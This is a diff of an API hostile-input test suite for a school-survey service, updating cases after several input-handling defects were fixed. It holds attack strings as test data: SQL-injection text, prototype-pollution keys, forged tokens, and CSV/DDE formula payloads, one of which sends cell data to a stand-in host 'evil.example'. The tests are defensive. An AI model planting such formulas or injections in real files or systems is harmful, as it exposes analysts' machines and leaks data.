@@ -31,18 +31,15 @@ if (stored.statusCode !== 201) throw new Error(`foreign answer: ${stored.body}`)
 const me = (await t.app.inject({ url: '/api/auth/me', headers: coordinator.headers })).json() as { id: string };
 const adminId = ((await t.app.inject({ url: '/api/auth/me', headers: admin.headers })).json() as { id: string }).id;
 
-/** Product defects this file found; a case marked with one is expected to fail until it is fixed. */
-const DEFECTS = {
-  NUL: 'a NUL character (U+0000) in a text field reaches PostgreSQL, which refuses it (22021 / 22P05): 500 instead of a 4xx',
-  SURROGATE: 'a lone UTF-16 surrogate in a free-text answer is passed to jsonb, which refuses it (22P02): 500 instead of a 4xx',
-  DEEP: 'a deeply nested value under a question name overflows the stack in survey-core (getUnbindValue → JSON.stringify): 500 instead of 422',
-  SUB: 'a correctly signed token whose sub is not a uuid (or missing, on PostgreSQL) is sent to the uuid column: 500 instead of 401',
-  ROUTER_SHAPE: 'router-level errors (bad percent-encoding, over-long path parameter) bypass the error handler: not the { error: { code, message } } shape',
-  AUTH_AFTER_VALIDATION: 'authentication runs in preHandler, after body parsing and validation: an anonymous caller gets 400 with schema details instead of 401',
-  CSV_INJECTION: 'CSV exports write answers starting with = + - @ as they are: a parent\'s free text becomes a formula when an analyst opens the file in Excel',
-  RESPONSE_ID_SPACE: "a public answer may take a school self-report's response id (= its assignment id) before the school saves a draft",
-} as const;
-type Defect = keyof typeof DEFECTS;
+/**
+ * Product defects this file finds; a case marked with one is expected to fail until it is
+ * fixed. The first run found eight (NUL and lone-surrogate text reaching PostgreSQL, deep
+ * nesting overflowing survey-core, a signed token without a user id, router errors outside the
+ * error shape, authentication after validation, CSV formula injection, a public answer taking a
+ * self-report's row); all are fixed and their cases now assert the right answer.
+ */
+const DEFECTS: Record<string, string> = {};
+type Defect = string;
 
 let address = 0;
 /** Every request from its own address, so that per-IP rate limits never decide a case. */
@@ -103,10 +100,9 @@ const FORGED_TOKENS: [string, () => Record<string, string>, RegExp, Defect?][] =
   ['a Basic authorization header', () => ({ authorization: 'Basic YWRtaW5AZGVtby5sb2NhbDpkZW1vLTIwMjYh' }), /^auth\./],
   ['a forged token in the session cookie', () => ({ cookie: `session=${sign({ sub: adminId }, 'another-secret-another-secret-another-secret')}` }), /^auth\.invalid_token$/],
   ['a correctly signed token of a user that does not exist', () => bearer(sign({ sub: randomUUID(), iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
-  ['a correctly signed token whose sub is SQL text', () => bearer(sign({ sub: SQL, iat: now, exp: now + 60 })), /^auth\.invalid_token$/, 'SUB'],
-  ['a correctly signed token whose sub is an object', () => bearer(sign({ sub: { id: adminId }, iat: now, exp: now + 60 })), /^auth\.invalid_token$/, 'SUB'],
-  // postgres.js refuses an undefined parameter; PGlite happens to answer "no such user"
-  ['a correctly signed token without sub', () => bearer(sign({ iat: now, exp: now + 60 })), /^auth\.invalid_token$/, driver === 'postgres' ? 'SUB' : undefined],
+  ['a correctly signed token whose sub is SQL text', () => bearer(sign({ sub: SQL, iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
+  ['a correctly signed token whose sub is an object', () => bearer(sign({ sub: { id: adminId }, iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
+  ['a correctly signed token without sub', () => bearer(sign({ iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
 ];
 
 const corpus: Case[] = [
@@ -116,8 +112,8 @@ const corpus: Case[] = [
   { name: 'login: a JSON array as the body', req: () => raw('POST', '/api/auth/login', '[]'), status: 400, code: 'request.invalid' },
   { name: 'login: null as the body', req: () => raw('POST', '/api/auth/login', 'null'), status: 400, code: /^request\./ },
   { name: 'login: a number as the body', req: () => raw('POST', '/api/auth/login', '42'), status: 400, code: 'request.invalid' },
-  { name: 'login: an object nested 10 000 levels deep in email', req: () => raw('POST', '/api/auth/login', `{"email":${deepObject(10_000)},"password":"x"}`), status: 400, code: 'request.invalid' },
-  { name: 'login: an array nested 10 000 levels deep as the body', req: () => raw('POST', '/api/auth/login', deepArray(10_000)), status: 400, code: 'request.invalid' },
+  { name: 'login: an object nested 10 000 levels deep in email', req: () => raw('POST', '/api/auth/login', `{"email":${deepObject(10_000)},"password":"x"}`), status: 400, code: 'request.too_deep' },
+  { name: 'login: an array nested 10 000 levels deep as the body', req: () => raw('POST', '/api/auth/login', deepArray(10_000)), status: 400, code: 'request.too_deep' },
   { name: 'login: a 2 MB body (over the 1 MB limit)', req: () => login({ email: 'admin@demo.local', password: 'x'.repeat(2 * MB) }), status: 413, code: 'request.too_large' },
   { name: 'login: a __proto__ key', req: () => raw('POST', '/api/auth/login', '{"email":"admin@demo.local","password":"x","__proto__":{"role":"admin"}}'), status: 400, code: /^request\./ },
   { name: 'login: a constructor.prototype key', req: () => raw('POST', '/api/auth/login', '{"email":"admin@demo.local","password":"x","constructor":{"prototype":{"role":"admin"}}}'), status: 400, code: /^request\./ },
@@ -125,10 +121,10 @@ const corpus: Case[] = [
   { name: 'login: a "prototype" key', req: () => login({ email: 'admin@demo.local', password: 'x', prototype: { role: 'admin' } }), status: 400, code: 'request.invalid' },
   { name: 'login: a number for email and null for password', req: () => login({ email: 12345, password: null }), status: 400, code: 'request.invalid' },
   { name: 'login: a 1 MB email (under the body limit, over the field limit)', req: () => login({ email: 'a'.repeat(1_000_000), password: 'x' }), status: 400, code: 'request.invalid' },
-  { name: 'login: a lone surrogate in email', req: () => login({ email: `admin${ODD.lone}@demo.local`, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials' },
+  { name: 'login: a lone surrogate in email', req: () => login({ email: `admin${ODD.lone}@demo.local`, password: 'demo-2026!' }), status: 400, code: 'request.invalid_text' },
   { name: 'login: an RTL override and emoji in email', req: () => login({ email: `${ODD.rtl}${ODD.emoji}@demo.local`, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials' },
-  { name: 'login: a NUL byte in email', req: () => login({ email: `admin@demo.local${ODD.nul}`, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials', defect: 'NUL' },
-  { name: 'login: a NUL byte in the password', req: () => login({ email: 'admin@demo.local', password: `demo-2026!${ODD.nul}` }), status: 401, code: 'auth.invalid_credentials' },
+  { name: 'login: a NUL byte in email', req: () => login({ email: `admin@demo.local${ODD.nul}`, password: 'demo-2026!' }), status: 400, code: 'request.invalid_text' },
+  { name: 'login: a NUL byte in the password', req: () => login({ email: 'admin@demo.local', password: `demo-2026!${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
   ...SQL_TEXTS.map((text): Case => ({ name: `login: SQL-looking email ${JSON.stringify(text)}`, req: () => login({ email: text, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials' })),
   ...SQL_TEXTS.map((text): Case => ({ name: `login: SQL-looking password ${JSON.stringify(text)} for the administrator`, req: () => login({ email: 'admin@demo.local', password: text }), status: 401, code: 'auth.invalid_credentials' })),
   { name: "login: the administrator's email with a SQL comment after it", req: () => login({ email: "admin@demo.local'--", password: 'x' }), status: 401, code: 'auth.invalid_credentials' },
@@ -147,7 +143,7 @@ const corpus: Case[] = [
 
   // ── GET /api/public/s/:code ──────────────────────────────────────────────────────────────
   ...SQL_TEXTS.map((text): Case => ({ name: `open link: SQL-looking code ${JSON.stringify(text)}`, req: () => ({ url: pub(encodeURIComponent(text)) }), status: 400, code: 'request.invalid' })),
-  { name: 'open link: a NUL byte in the code', req: () => ({ url: pub('abc%00def') }), status: 400, code: 'request.invalid' },
+  { name: 'open link: a NUL byte in the code', req: () => ({ url: pub('abc%00def') }), status: 400, code: 'request.invalid_text' },
   { name: 'open link: emoji in the code', req: () => ({ url: pub(encodeURIComponent('ab🏫cd')) }), status: 400, code: 'request.invalid' },
   { name: 'open link: an RTL override in the code', req: () => ({ url: pub(encodeURIComponent('ab\u202Ecd')) }), status: 400, code: 'request.invalid' },
   { name: 'open link: a code in capitals', req: () => ({ url: pub(f.codes.own.toUpperCase()) }), status: 400, code: 'request.invalid' },
@@ -158,8 +154,8 @@ const corpus: Case[] = [
     name: 'open link: SQL text as the invitation token reads as an invalid invitation', req: () => ({ url: `${pub()}?t=${encodeURIComponent(SQL)}` }), status: 200,
     check: (res) => expect(res.json()).toMatchObject({ state: 'open', invitation: 'invalid' }),
   },
-  { name: 'open link: broken percent-encoding in the path', req: () => ({ url: '/api/public/s/%E0%A4%A' }), status: 400, defect: 'ROUTER_SHAPE' },
-  { name: 'open link: a 200-character code', req: () => ({ url: pub('a'.repeat(200)) }), status: [400, 404, 414], defect: 'ROUTER_SHAPE' },
+  { name: 'open link: broken percent-encoding in the path', req: () => ({ url: '/api/public/s/%E0%A4%A' }), status: 400 },
+  { name: 'open link: a 200-character code', req: () => ({ url: pub('a'.repeat(200)) }), status: [400, 404, 414] },
 
   // ── POST /api/public/s/:code/start ───────────────────────────────────────────────────────
   { name: 'start: malformed JSON on a real code counts no start', req: () => raw('POST', `${pub()}/start`, '{"x":'), status: 400, code: 'request.malformed_json' },
@@ -167,17 +163,17 @@ const corpus: Case[] = [
   { name: 'start: a 2 MB body on a real code counts no start', req: () => ({ method: 'POST', url: `${pub()}/start`, payload: { x: 'x'.repeat(2 * MB) } }), status: 413, code: 'request.too_large' },
   { name: 'start: SQL-looking code', req: () => ({ method: 'POST', url: `${pub(encodeURIComponent(SQL))}/start` }), status: 400, code: 'request.invalid' },
   { name: 'start: a well-formed code nobody has', req: () => ({ method: 'POST', url: `${pub('zzzz9999')}/start` }), status: 404, code: 'link.not_found' },
-  { name: 'start: a 10 000-level body on a code nobody has', req: () => raw('POST', `${pub('zzzz9999')}/start`, deepObject(10_000)), status: 404, code: 'link.not_found' },
+  { name: 'start: a 10 000-level body on a code nobody has', req: () => raw('POST', `${pub('zzzz9999')}/start`, deepObject(10_000)), status: 400, code: 'request.too_deep' },
 
   // ── POST /api/public/s/:code/responses ───────────────────────────────────────────────────
   { name: 'answer: malformed JSON', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5}`), status: 400, code: 'request.malformed_json' },
   { name: 'answer: a 300 KB body (over the 256 KB limit of this route)', req: () => answer({ q_sat: 1, why: 'x'.repeat(300 * 1024) }), status: 413, code: 'request.too_large' },
   { name: 'answer: a 1 MB string in one answer', req: () => answer({ q_sat: 1, why: 'x'.repeat(MB) }), status: 413, code: 'request.too_large' },
   { name: 'answer: a 200 KB free-text answer (under the body limit, over the 5000-character answer limit)', req: () => answer({ q_sat: 1, why: 'x'.repeat(200_000) }), status: 422, code: 'response.invalid' },
-  { name: 'answer: 10 000 levels under an unknown key', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"zzz":${deepObject(10_000)}}}`), status: 422, code: 'response.invalid' },
-  { name: 'answer: 10 000 levels as the whole data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":${deepObject(10_000)}}`), status: 422, code: 'response.invalid' },
-  { name: 'answer: 10 000 levels under a visible free-text question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":1,"why":${deepObject(10_000)}}}`), status: 422, code: 'response.invalid', defect: 'DEEP' },
-  { name: 'answer: 10 000 nested arrays under a rating question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":${deepArray(10_000)}}}`), status: 422, code: 'response.invalid', defect: 'DEEP' },
+  { name: 'answer: 10 000 levels under an unknown key', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"zzz":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
+  { name: 'answer: 10 000 levels as the whole data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":${deepObject(10_000)}}`), status: 400, code: 'request.too_deep' },
+  { name: 'answer: 10 000 levels under a visible free-text question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":1,"why":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
+  { name: 'answer: 10 000 nested arrays under a rating question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":${deepArray(10_000)}}}`), status: 400, code: 'request.too_deep' },
   { name: 'answer: a __proto__ key at the top level', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5},"__proto__":{"x":1}}`), status: 400, code: /^request\./ },
   { name: 'answer: a __proto__ key inside data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"__proto__":{"isAdmin":true}}}`), status: 400, code: /^request\./ },
   { name: 'answer: a constructor.prototype key inside data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"constructor":{"prototype":{"x":1}}}}`), status: 400, code: /^request\./ },
@@ -195,9 +191,9 @@ const corpus: Case[] = [
   { name: 'answer: an object for a choice', req: () => answer({ q_sat: 5, age_group: { value: '3-4' } }), status: 422, code: 'response.invalid' },
   { name: 'answer: a 1000-character key', req: () => answer({ q_sat: 5, ['k'.repeat(1000)]: 1 }), status: [400, 422], code: /^(request|response)\.invalid$/ },
   { name: 'answer: nothing but an empty data', req: () => answer({}), status: 422, code: /^response\./ },
-  { name: 'answer: a NUL byte in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.nul}` }), status: [400, 422], defect: 'NUL' },
-  { name: 'answer: a lone surrogate in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.lone}` }), status: [400, 422], defect: 'SURROGATE' },
-  { name: 'answer: a NUL byte as a choice', req: () => answer({ q_sat: 5, age_group: `3-4${ODD.nul}` }), status: 422, code: 'response.invalid' },
+  { name: 'answer: a NUL byte in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
+  { name: 'answer: a lone surrogate in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.lone}` }), status: 400, code: 'request.invalid_text' },
+  { name: 'answer: a NUL byte as a choice', req: () => answer({ q_sat: 5, age_group: `3-4${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
   ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking id ${JSON.stringify(text)}`, req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: text, data: { q_sat: 5 } } }), status: 400, code: 'request.invalid' })),
   ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking key ${JSON.stringify(text)}`, req: () => answer({ q_sat: 5, [text]: 1 }), status: 422, code: 'response.invalid' })),
   ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking choice ${JSON.stringify(text)}`, req: () => answer({ q_sat: 5, age_group: text }), status: 422, code: 'response.invalid' })),
@@ -213,11 +209,16 @@ const corpus: Case[] = [
   { name: 'unsubscribe: a 1 MB token', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(MB)}` }), status: 400, code: 'request.invalid' },
   { name: 'unsubscribe: an extra query parameter', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(30)}&all=1` }), status: 400, code: 'request.invalid' },
   {
-    // a person follows this link from a mail: the answer is a page, not JSON
-    name: 'unsubscribe: a SQL-looking token finds nothing and says so on a page', req: () => ({ url: `/api/public/unsubscribe?t=${encodeURIComponent(`${SQL} padding-to-20-chars`)}` }), status: 404,
+    // a person follows this link from a mail: the answer is a page, not JSON; the button posts the token
+    name: 'unsubscribe: an unknown token finds nothing and says so on a page', req: () => ({ method: 'POST', url: '/api/public/unsubscribe', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: `t=${'z'.repeat(40)}` }), status: 404,
     check: (res) => { expect(res.headers['content-type']).toMatch(/text\/html/); expect(res.body).toContain('Ссылка не найдена'); },
   },
-  { name: 'unsubscribe: a NUL byte in the token', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(30)}%00` }), status: [400, 404], check: () => {} },
+  { name: 'unsubscribe: a SQL-looking token is refused', req: () => ({ url: `/api/public/unsubscribe?t=${encodeURIComponent(`${SQL} padding-to-20-chars`)}` }), status: 400, code: 'request.invalid' },
+  {
+    name: 'unsubscribe: the link only shows a confirmation button (a mail scanner changes nothing)', req: () => ({ url: `/api/public/unsubscribe?t=${'z'.repeat(40)}` }), status: 200,
+    check: (res) => expect(res.body).toContain('<form method="post"'),
+  },
+  { name: 'unsubscribe: a NUL byte in the token', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(30)}%00` }), status: 400 },
 
   // ── forged tokens on staff routes ────────────────────────────────────────────────────────
   ...FORGED_TOKENS.flatMap(([label, headers, code, defect]): Case[] => [
@@ -227,14 +228,14 @@ const corpus: Case[] = [
 
   // ── organisations ────────────────────────────────────────────────────────────────────────
   { name: 'create organisation: malformed JSON', req: () => asAnalyst(raw('POST', '/api/organisations', '{"parentId":')), status: 400, code: 'request.malformed_json' },
-  { name: 'create organisation: 10 000 levels in name', req: () => asAnalyst(raw('POST', '/api/organisations', `{"parentId":"${f.org.kalininsky.id}","code":"hostile-deep","kind":"school","name":${deepObject(10_000)}}`)), status: 400, code: 'request.invalid' },
+  { name: 'create organisation: 10 000 levels in name', req: () => asAnalyst(raw('POST', '/api/organisations', `{"parentId":"${f.org.kalininsky.id}","code":"hostile-deep","kind":"school","name":${deepObject(10_000)}}`)), status: 400, code: 'request.too_deep' },
   { name: 'create organisation: a 2 MB body', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 'x'.repeat(2 * MB) }) }), status: 413, code: 'request.too_large' },
   { name: 'create organisation: a 1 MB name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 'x'.repeat(1_000_000) }) }), status: 400, code: 'request.invalid' },
   { name: 'create organisation: a __proto__ key', req: () => asAnalyst(raw('POST', '/api/organisations', JSON.stringify(newOrganisation({})).replace(/}$/, ',"__proto__":{"level":"root"}}'))), status: 400, code: /^request\./ },
   { name: 'create organisation: a constructor.prototype key', req: () => asAnalyst(raw('POST', '/api/organisations', JSON.stringify(newOrganisation({})).replace(/}$/, ',"constructor":{"prototype":{"level":"root"}}}'))), status: 400, code: /^request\./ },
   { name: 'create organisation: a level field (not settable)', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ level: 'region' }) }), status: 400, code: 'request.invalid' },
   { name: 'create organisation: a number for name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 12345 }) }), status: 400, code: 'request.invalid' },
-  { name: 'create organisation: a NUL byte in name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: `Школа${ODD.nul}` }) }), status: [400, 422], defect: 'NUL' },
+  { name: 'create organisation: a NUL byte in name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: `Школа${ODD.nul}` }) }), status: 400, code: 'request.invalid_text' },
   ...SQL_TEXTS.map((text): Case => ({ name: `create organisation: SQL-looking code ${JSON.stringify(text)}`, req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ code: text }) }), status: 400, code: 'request.invalid' })),
   { name: 'create organisation: SQL-looking parentId', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ parentId: SQL }) }), status: 400, code: 'request.invalid' },
   { name: "create organisation: under another region's municipality", req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ parentId: f.org.kalarsky.id }) }), status: 404, code: 'organisation.not_found' },
@@ -253,7 +254,7 @@ const corpus: Case[] = [
     name: 'list organisations: LIKE wildcards in the search match literally', req: () => asAnalyst({ url: `/api/organisations?q=${encodeURIComponent('%_%')}` }), status: 200,
     check: (res) => expect(res.json()).toEqual([]),
   },
-  { name: 'list organisations: a NUL byte in the search', req: () => asAnalyst({ url: '/api/organisations?q=%00' }), status: [200, 400], check: () => {}, defect: 'NUL' },
+  { name: 'list organisations: a NUL byte in the search', req: () => asAnalyst({ url: '/api/organisations?q=%00' }), status: 400, code: 'request.invalid_text' },
   { name: 'list organisations: a parentId that is SQL text', req: () => asAnalyst({ url: `/api/organisations?parentId=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
 
   // ── users ────────────────────────────────────────────────────────────────────────────────
@@ -262,17 +263,17 @@ const corpus: Case[] = [
   { name: "add user: a coordinator for another region's school", req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'x@kalarsky.demo', name: 'X', password: 'long-enough-1', role: 'coordinator', organisationId: f.org.kalarskyGym.id } }), status: 404, code: 'organisation.not_found' },
   ...SQL_TEXTS.map((text): Case => ({ name: `add user: SQL-looking email ${JSON.stringify(text)}`, req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: text, name: 'X', password: 'long-enough-1', role: 'coordinator', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid' })),
   { name: 'add user: an unknown role', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'r@kalininsky.demo', name: 'X', password: 'long-enough-1', role: 'root', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid' },
-  { name: 'add user: a NUL byte in the name', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'nul@kalininsky.demo', name: `Имя${ODD.nul}`, password: 'long-enough-1', role: 'coordinator', organisationId: f.org.gym.id } }), status: [400, 422], defect: 'NUL' },
+  { name: 'add user: a NUL byte in the name', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'nul@kalininsky.demo', name: `Имя${ODD.nul}`, password: 'long-enough-1', role: 'coordinator', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid_text' },
 
   // ── self-reports ─────────────────────────────────────────────────────────────────────────
   { name: 'draft: malformed JSON', req: () => rawDraft('{"data":{"pupils_5_18":4'), status: 400, code: 'request.malformed_json' },
-  { name: 'draft: 10 000 levels under a number question', req: () => rawDraft(`{"data":{"pupils_5_18":${deepObject(10_000)}}}`), status: 422, code: 'response.invalid', defect: 'DEEP' },
-  { name: 'draft: 10 000 levels under an unknown key', req: () => rawDraft(`{"data":{"zzz":${deepObject(10_000)}}}`), status: 422, code: 'response.invalid' },
+  { name: 'draft: 10 000 levels under a number question', req: () => rawDraft(`{"data":{"pupils_5_18":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
+  { name: 'draft: 10 000 levels under an unknown key', req: () => rawDraft(`{"data":{"zzz":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
   { name: 'draft: a __proto__ key inside data', req: () => rawDraft('{"data":{"pupils_5_18":1,"__proto__":{"status":"accepted"}}}'), status: 400, code: /^request\./ },
   { name: 'draft: a constructor.prototype key inside data', req: () => rawDraft('{"data":{"constructor":{"prototype":{"status":"accepted"}}}}'), status: 400, code: /^request\./ },
   { name: 'draft: a "constructor" answer', req: () => draftOf(f.assignments.own.id, { data: { constructor: 1 } }), status: 422, code: 'response.invalid' },
   { name: 'draft: a 1 MB string for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: 'x'.repeat(1_000_000) } }), status: 422, code: 'response.invalid' },
-  { name: 'draft: a NUL byte for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: `1${ODD.nul}` } }), status: 422, code: 'response.invalid' },
+  { name: 'draft: a NUL byte for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: `1${ODD.nul}` } }), status: 400, code: 'request.invalid_text' },
   { name: 'draft: Infinity-like text for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: 'Infinity' } }), status: 422, code: 'response.invalid' },
   { name: 'draft: 1e400 for a number', req: () => rawDraft('{"data":{"pupils_5_18":1e400}}'), status: 422, code: 'response.invalid' },
   { name: 'draft: a status field beside data', req: () => draftOf(f.assignments.own.id, { data: {}, status: 'accepted' }), status: 400, code: 'request.invalid' },
@@ -289,7 +290,7 @@ const corpus: Case[] = [
   { name: 'expected count: a string', req: () => asAnalyst({ method: 'PATCH', url: `/api/assignments/${f.surveyAssignments.own.id}`, payload: { expected: '10' } }), status: 400, code: 'request.invalid' },
 
   // ── forms and campaigns ──────────────────────────────────────────────────────────────────
-  { name: 'publish form: 10 000 levels in the form JSON', req: () => asAnalyst(raw('POST', '/api/forms', JSON.stringify({ ...customSurvey, json: { pages: 'DEEP' } }).replace('"DEEP"', deepObject(10_000)))), status: 422, code: 'form.invalid' },
+  { name: 'publish form: 10 000 levels in the form JSON', req: () => asAnalyst(raw('POST', '/api/forms', JSON.stringify({ ...customSurvey, json: { pages: 'DEEP' } }).replace('"DEEP"', deepObject(10_000)))), status: 400, code: 'request.too_deep' },
   { name: 'publish form: a __proto__ key in the form JSON', req: () => asAnalyst(raw('POST', '/api/forms', JSON.stringify(customSurvey).replace('"locale":"ru"', '"locale":"ru","__proto__":{"x":1}'))), status: 400, code: /^request\./ },
   { name: 'publish form: for another region\'s municipality', req: () => asAnalyst({ method: 'POST', url: '/api/forms', payload: { ...customSurvey, ownerId: f.org.kalarsky.id } }), status: 404, code: 'organisation.not_found' },
   { name: "new form version: another region's form", req: () => asAnalyst({ method: 'POST', url: `/api/forms/${f.forms.foreignFormId}/versions`, payload: { json: customSurvey.json, mapping: customSurvey.mapping } }), status: 404, code: 'form.not_found' },
@@ -306,18 +307,18 @@ const corpus: Case[] = [
   { name: "remind: another region's campaign", req: () => asAnalyst({ method: 'POST', url: `/api/campaigns/${f.campaigns.foreignSurvey.id}/remind` }), status: 404, code: 'campaign.not_found' },
   { name: "invite: another region's assignment", req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.foreign.id}/invitations`, payload: { emails: ['p@example.ru'] } }), status: 404, code: 'assignment.not_found' },
   { name: 'invite: SQL-looking addresses', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.own.id}/invitations`, payload: { emails: SQL_TEXTS } }), status: 422, code: 'invitation.bad_email' },
-  { name: 'invite: a NUL byte inside an address', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.own.id}/invitations`, payload: { emails: [`pa${ODD.nul}rent@example.ru`] } }), status: [400, 422], defect: 'NUL' },
+  { name: 'invite: a NUL byte inside an address', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.own.id}/invitations`, payload: { emails: [`pa${ODD.nul}rent@example.ru`] } }), status: 400, code: 'request.invalid_text' },
   { name: 'mails: SQL text as the campaign filter', req: () => asAnalyst({ url: `/api/mails?campaign=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
 
   // ── imports and exports ──────────────────────────────────────────────────────────────────
   { name: 'import values: a 16 MB body (over the 15 MB limit of this route)', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: { fileName: 'big.csv', format: 'csv', content: 'x'.repeat(16 * MB) } }), status: 413, code: 'request.too_large' },
-  { name: 'import values: 10 000 levels as the content', req: () => asAnalyst(raw('POST', '/api/imports/values', `{"fileName":"a.csv","format":"csv","content":${deepObject(10_000)}}`)), status: 400, code: 'request.invalid' },
+  { name: 'import values: 10 000 levels as the content', req: () => asAnalyst(raw('POST', '/api/imports/values', `{"fileName":"a.csv","format":"csv","content":${deepObject(10_000)}}`)), status: 400, code: 'request.too_deep' },
   { name: 'import values: an unknown format', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalininsky-sosh1', { format: 'sql' }) }), status: 400, code: 'request.invalid' },
   { name: "import values: another region's school", req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalarsky-sosh1') }), status: 422, code: 'import.invalid' },
   { name: 'import values: a SQL-looking school code and variable', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile(SQL.replace(/;/g, ''), { variable: "x'; drop table variable_values; --" }) }), status: 422, code: 'import.invalid' },
   { name: 'import values: a formula as the value', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalininsky-sosh1', { value: '=1+1' }) }), status: 422, code: 'import.invalid' },
   { name: 'import values: an XLSX that is random bytes', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: { fileName: 'a.xlsx', format: 'xlsx', content: Buffer.from('not a zip at all').toString('base64') } }), status: 422, code: 'import.invalid' },
-  { name: 'import values: a NUL byte in the school code', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile(`kalininsky-sosh1${ODD.nul}`) }), status: 422, code: 'import.invalid', defect: 'NUL' },
+  { name: 'import values: a NUL byte in the school code', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile(`kalininsky-sosh1${ODD.nul}`) }), status: 400, code: 'request.invalid_text' },
   { name: 'export: SQL text as the format', req: () => asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.ownSurvey.id}/rates?format=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
   { name: "export: another region's campaign", req: () => asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.foreignSurvey.id}/responses?format=csv` }), status: 404, code: 'campaign.not_found' },
   { name: "export: the indicator table of another region's school", req: () => asAnalyst({ url: `/api/exports/indicators?catalogue=kalininsky&period=2026%2F27&format=csv&unitId=${f.org.kalarskySosh1.id}` }), status: 404, code: 'organisation.not_found' },
@@ -416,7 +417,7 @@ describe('exports hand answers back as text', () => {
   // typed by an anonymous parent, opened by an analyst in Excel (CWE-1236)
   const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2;"Подробнее")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
 
-  it.fails(`a free-text answer starting with = + - @ is exported to CSV as text, not as a formula [known defect CSV_INJECTION: ${DEFECTS.CSV_INJECTION}]`, async () => {
